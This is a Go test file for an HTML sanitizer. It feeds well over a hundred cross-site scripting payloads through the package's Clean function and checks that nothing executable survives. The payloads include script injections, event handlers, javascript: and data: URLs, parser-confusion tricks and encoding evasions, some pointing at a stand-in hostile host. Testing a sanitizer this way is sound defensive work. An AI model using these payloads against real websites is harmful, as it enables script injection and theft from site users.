package prose

import (
	"slices"
	"strings"
	"testing"

	xhtml "golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// shown are the attributes that a page or feed may hold, by element. This is
// written down apart from the allow-list so that a slip there is seen.
var shown = map[string]string{
	"a": "href rel", "img": "src alt width height loading decoding", "span": "class",
	"div": "class role tabindex aria-label", "figure": "class", "abbr": "title", "time": "datetime",
	"ol": "start", "td": "colspan rowspan scope", "th": "colspan rowspan scope",
	"p": "", "br": "", "hr": "", "h1": "", "h2": "", "h3": "", "h4": "", "h5": "", "h6": "", "strong": "", "b": "", "em": "", "i": "",
	"u": "", "s": "", "del": "", "ins": "", "mark": "", "small": "", "sub": "", "sup": "", "cite": "", "q": "",
	"blockquote": "", "ul": "", "li": "", "dl": "", "dt": "", "dd": "", "table": "", "caption": "", "thead": "",
	"tbody": "", "tfoot": "", "tr": "", "figcaption": "", "pre": "", "code": "", "details": "", "summary": "",
	"video": "controls preload src poster", "audio": "controls preload src",
}

// checkSafe parses HTML as a page would and fails if anything in it could run,
// load a frame, redirect or break out of the place it stands in.
func checkSafe(t *testing.T, markup string) {
	t.Helper()
	if markup != StripInvalidXML(markup) {
		t.Errorf("forbidden characters in %q", markup)
	}
	root, err := xhtml.Parse(strings.NewReader("<!doctype html><body><main>" + markup + "</main><footer></footer>"))
	if err != nil {
		t.Fatalf("%v in %q", err, markup)
	}
	frame := map[string]int{"html": 1, "head": 1, "body": 1, "main": 1, "footer": 1}
	for n := range root.Descendants() {
		switch {
		case n.Type == xhtml.CommentNode:
			t.Errorf("a comment in %q", markup)
		case n.Type != xhtml.ElementNode:
		case frame[n.Data] > 0:
			frame[n.Data]--
			if n.Data == "footer" && n.Parent.Data != "body" {
				t.Errorf("an open element swallows the page: %q", markup)
			}
		default:
			checkElement(t, n, markup)
		}
	}
}

func checkElement(t *testing.T, n *xhtml.Node, markup string) {
	t.Helper()
	allowed, ok := shown[n.Data]
	if !ok || n.Namespace != "" {
		t.Errorf("element <%s> in %q", n.Data, markup)
	}
	for _, a := range n.Attr {
		if !strings.Contains(" "+allowed+" ", " "+a.Key+" ") {
			t.Errorf("attribute %s in <%s> in %q", a.Key, n.Data, markup)
		}
		isAddress := a.Key == "href" || a.Key == "src" || a.Key == "poster"
		if isAddress && !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "../") {
			t.Errorf("address %q in %q", a.Val, markup)
		}
		if a.Key == "class" && !slices.Contains([]string{"player", "player video", "player audio", "table", "missing"}, a.Val) {
			t.Errorf("class %q in %q", a.Val, markup)
		}
	}
	if (n.DataAtom == atom.P || n.DataAtom == atom.A || n.DataAtom == atom.Li) && n.FirstChild == nil {
		t.Errorf("empty <%s> in %q", n.Data, markup)
	}
}

// payloads are attempts to run script, load a frame, redirect, or break out of the place
// of a text.
var payloads = []string{
	// Script and handlers
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://kotu.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script>alert(1)`,
	`<script/src="https://kotu.example/x.js"/>`,
	"<script\x0c>alert(1)</script\x0c>",
	`<img src=x onerror=alert(1)>`,
	`<img src="https://a.example/x.jpg" onerror="alert(1)" onload=alert(2)>`,
	`<img/src="x"/onerror=alert(1)>`,
	`<img src="x" alt="&quot; onerror=&quot;alert(1)">`,
	`<img src='https://a.example/?"onerror="alert(1)'>`,
	`<img src="https://a.example/" alt='"><script>alert(1)</script>'>`,
	`<img """><script>alert(1)</script>">`,
	"<img src=`https://a.example/` onerror=alert(1)>",
	`<p onclick=alert(1) style="background:url(javascript:alert(1))">a</p>`,
	`<b onmouseover=alert(1)>a</b>`,
	`<body onload=alert(1)>a`,
	`<html onclick=alert(1)><p>a`,
	`<details open ontoggle=alert(1)><summary>a</summary>b</details>`,
	`<table background="javascript:alert(1)"><tr><td background=javascript:alert(1) onclick=a()>a</table>`,
	`<td onclick=alert(1)>a</td>`,
	`<marquee onstart=alert(1)>a</marquee>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)><option>a</select>`,
	`<textarea autofocus onfocus=alert(1)>a</textarea>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<video src=x onerror=alert(1)></video>`,
	`<video poster=javascript:alert(1) src=javascript:alert(2)></video>`,
	`<audio src="data:audio/x,a" onplay=alert(1)></audio>`,
	`<x-y onclick=alert(1)>a</x-y>`,
	`<p id=location name=body class=table aria-label=x data-x=y tabindex=5>a</p>`,
	`<a href="https://a.example/" onclick=alert(1) target=_blank ping=https://kotu.example download>a</a>`,
	`<time datetime='"><script>alert(1)</script>'>a</time>`,
	`<abbr title='" onmouseover="alert(1)'>a</abbr>`,
	`<ol start="1 onclick=alert(1)"><li>a</ol>`,
	`<td colspan="1000000000">a`,
	`<table><tr><td colspan=99999 rowspan=-1 scope=javascript>a</table>`,
	`<figure class="player" onclick=alert(1)><a href="javascript:alert(1)">a</a></figure>`,
	`<figure class="player table x">a</figure>`,
	// Addresses
	`<a href="javascript:alert(1)">a</a>`,
	`<a href="JaVaScRiPt:alert(1)">a</a>`,
	`<a href="java&#10;script:alert(1)">a</a>`,
	`<a href="java&Tab;script:alert(1)">a</a>`,
	`<a href=" &#14; javascript:alert(1)">a</a>`,
	`<a href="javascript&colon;alert(1)">a</a>`,
	`<a href="javascript&#58;alert(1)">a</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">a</a>`,
	`<a href="javascript://haber.example/%0aalert(1)">a</a>`,
	`<a href="vbscript:msgbox(1)">a</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">a</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`,
	`<a href="file:///etc/passwd">a</a>`,
	`<a href="blob:https://a.example/1">a</a>`,
	`<a href="view-source:https://a.example/">a</a>`,
	`<a href="feed:javascript:alert(1)">a</a>`,
	`<a href="intent://a#Intent;scheme=https;end">a</a>`,
	`<a href="mailto:a@a.example">a</a>`,
	`<a href="https://ad:sifre@a.example/">a</a>`,
	`<a href="https://haber.example\@kotu.example/">a</a>`,
	`<a href="https:kotu.example">a</a>`,
	`<a href="https:///kotu.example">a</a>`,
	`<a href="http://[::1%25eth0">a</a>`,
	`<a href="http://a.example:99999999999/">a</a>`,
	`<a href="\\kotu.example\x">a</a>`,
	`<a href="/\kotu.example">a</a>`,
	"<a href=\"https://a.example/\x00\x01\x02\x03\">a</a>",
	`<a href="https://a.example/&#1;&#2;&#3;">a</a>`,
	`<a href='https://a.example/"><script>alert(1)</script>'>a</a>`,
	`<a href="https://a.example/` + strings.Repeat("a", 10_000) + `">a</a>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<img srcset="javascript:alert(1) 2x, data:text/html,x 3x">`,
	`<img src="https://a.example/x" width=1 height=1>`,
	`<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">`,
	`<blockquote cite="javascript:alert(1)">a</blockquote>`,
	`<q cite="javascript:alert(1)">a</q>`,
	// Frames, redirects, style, forms
	`<base href="https://kotu.example/"><a href="x">a</a>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="https://kotu.example/x.css">`,
	`<link rel=import href="data:text/html,x">`,
	`<style>body{display:none}</style>`,
	`<style>@import "https://kotu.example/x.css";`,
	`<p style="position:fixed;top:0;width:100%">a</p>`,
	`<form action="https://kotu.example/"><input name=sifre><button formaction=javascript:alert(1)>a</button></form>`,
	`<isindex action=javascript:alert(1) type=image>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<iframe src="https://kotu.example/" onload=alert(1) title='"><script>alert(1)</script>'></iframe>`,
	`<iframe src="https://www.youtube.com/embed/&quot;><script>alert(1)</script>"></iframe>`,
	`<iframe src="https://www.youtube.com/embed/a"`,
	`<iframe><p>a</iframe><script>alert(1)</script>`,
	`<frameset><frame src="javascript:alert(1)"></frameset>`,
	`<object data="javascript:alert(1)"><param name=movie value="javascript:alert(2)"></object>`,
	`<object type="text/x-scriptlet" data="https://kotu.example/x"></object>`,
	`<embed src="data:image/svg+xml;base64,AAAA" allowscriptaccess=always>`,
	`<applet code=x codebase=https://kotu.example></applet>`,
	`<portal src="https://kotu.example/"></portal>`,
	`<template><script>alert(1)</script></template>`,
	`<template shadowrootmode=open><script>alert(1)</script></template>`,
	`<slot name=x><script>alert(1)</script></slot>`,
	`<dialog open>a</dialog><menu><li>a</menu>`,
	// Parsers that disagree
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`,
	`<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1)></svg>`,
	`<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<math href="javascript:alert(1)">a</math>`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<title></title><img src=x onerror=alert(1)></title>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
	`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
	`<plaintext><script>alert(1)</script>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<select><style></select><script>alert(1)</script></style></select>`,
	`<option><style></option></select><b><img src=x onerror=alert(1)></style></option>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!--!><img src=x onerror=alert(1)>--!>`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml-stylesheet href="javascript:alert(1)"?><p>a`,
	`<?php echo 1 ?><%= 1 %>{{ 1 }}${1}`,
	`</p></div></main></body></html><script>alert(1)</script>`,
	`</main></article><footer>a`,
	`<table><caption><table><tr><td></caption></table><script>alert(1)</script>`,
	`<table><a href="javascript:alert(1)"><tr><td>a</a></table>`,
	`<a href="https://a.example/1"><table><tr><td><a href="https://a.example/2">a</a></table></a>`,
	`<a href="https://a.example/1"><div><a href="https://a.example/2">a</div></a>`,
	`<b><p><i></b><table><b><tr><i><td></b>a</i></table></p>`,
	`<p><a href="https://a.example/"><p>a</a>`,
	`<ul><p><li><ul></p></li></ul>a`,
	`<dl><li><dt><dd></dl><dd>a<dt>b`,
	`<h1><h2><h3>a</h1></h2></h3>`,
	`<details><summary><details><summary>a</details>b`,
	`<pre><code><script>alert(1)</script></code></pre>`,
	`<p <p <script>alert(1)</script>`,
	`<<script>alert(1)//<</script>`,
	`<p/><br/></br></p>a`,
	`<div class="table"><div class="table"><table><tr><td>a</table></div></div>`,
	`<span class="missing" onclick=alert(1)>a</span>`,
	// What other languages would make of it
	`[a](javascript:alert(1)) ![b](javascript:alert(2))`,
	"```html\n<script>alert(1)</script>\n```",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
	`&lt;img src=x onerror=alert(1)&gt;<b>a</b>`,
	// Characters, and the marks of this package's own references
	"a\x00b\x0bc\x1fd\x7fe\xc2\x85f\ufffe\uffff\ufdd0",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"\x01Ljavascript:alert(1)\x02a\x01/\x02",
	"&#1;Ljavascript:alert(1)&#2;a&#1;/&#2;",
	"<p title='&#1;'>&#x1;Ijavascript:alert(1)&#3;x&#2;</p>",
	"<img src='https://a.example/x.jpg' alt='&#2;&#1;Ljavascript:alert(1)&#2;'>",
	"<figure class=player><a href='https://a.example/&#3;&#2;'>a</a></figure>",
	"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
	"\xc0\xbcscript\xc0\xbealert(1)",
	"<p>]]></p>]]><script>alert(1)</script>",
	"\u202e<script>alert(1)</script>\u2066",
	`<ſcript>alert(1)</ſcript><ımg src=x onerror=alert(1)><İMG SRC=x>`,
}

func TestHostile(t *testing.T) {
	frames := []string{"%", "<p>önce %", "<table><tr><td>%", "<ul><li>%", "<a href=https://a.example/>%", "<pre>%", "<h2>%", "<b><i>%</b>", "<figure>%", "<svg>%", "<dl><dt>%", "<details><summary>%"}
	for _, payload := range payloads {
		for _, frame := range frames {
			body := Clean(strings.ReplaceAll(frame, "%", payload), testOptions)
			checkSafe(t, string(body.HTML(asIs{})))
			checkSafe(t, string(body.HTML(player{asIs{}})))
			checkStable(t, body)
			if t.Failed() {
				t.Fatalf("payload %q in %q", payload, frame)
			}
		}
	}
}

// Every element loses what could run, load or disguise, the allowed ones too.
func TestEveryElement(t *testing.T) {
	others := strings.Fields("span main footer form input button iframe object embed video audio svg math base link meta style script " +
		"template dialog marquee frame applet area map canvas font nobr center section aside header option label output slot x-y o:p")
	const bad = ` onclick="a()" onerror="a()" style="color:red" id="x" name="x" class="x" role="alert" tabindex="9" srcdoc="a" formaction="javascript:a()"` +
		` action="javascript:a()" background="javascript:a()" xlink:href="javascript:a()" cite="javascript:a()" contenteditable ping="https://a.example" lang="x"`
	for tag := range shown {
		others = append(others, tag)
	}
	for _, tag := range others {
		for _, format := range []string{"<%>a</%>", "<%/>a", "<figure><%><p>a</p></%></figure>", "<table><tr><td><%>a</td></tr></table>", "<ul><%>a</ul>"} {
			open := strings.Replace(format, "%", tag+bad+` href="https://a.example/" src="https://a.example/" title="a"`, 1)
			body := Clean(strings.ReplaceAll(open, "%", tag), testOptions)
			checkSafe(t, string(body.HTML(identity{})))
			checkStable(t, body)
		}
	}
}

func TestHostileTitles(t *testing.T) {
	for _, payload := range payloads {
		for _, title := range []string{payload, "Körfez " + payload} {
			got := Plain(title)
			if strings.ContainsAny(got, "\n\t\x00\x01\u202e\u2066\ufeff") || got != StripInvalidXML(got) || got != strings.TrimSpace(got) {
				t.Errorf("Plain(%q) = %q", title, got)
			}
		}
	}
}

// Links and pictures that a cleaned text names are safe in any other place,
// too, such as a list of what to fetch.
func TestAddresses(t *testing.T) {
	for _, payload := range payloads {
		body := Clean(payload, testOptions)
		for _, address := range append(body.Links(), body.Images()...) {
			if safe, ok := SafeURL(address); !ok || safe != address {
				t.Errorf("%q names the address %q", payload, address)
			}
		}
	}
}
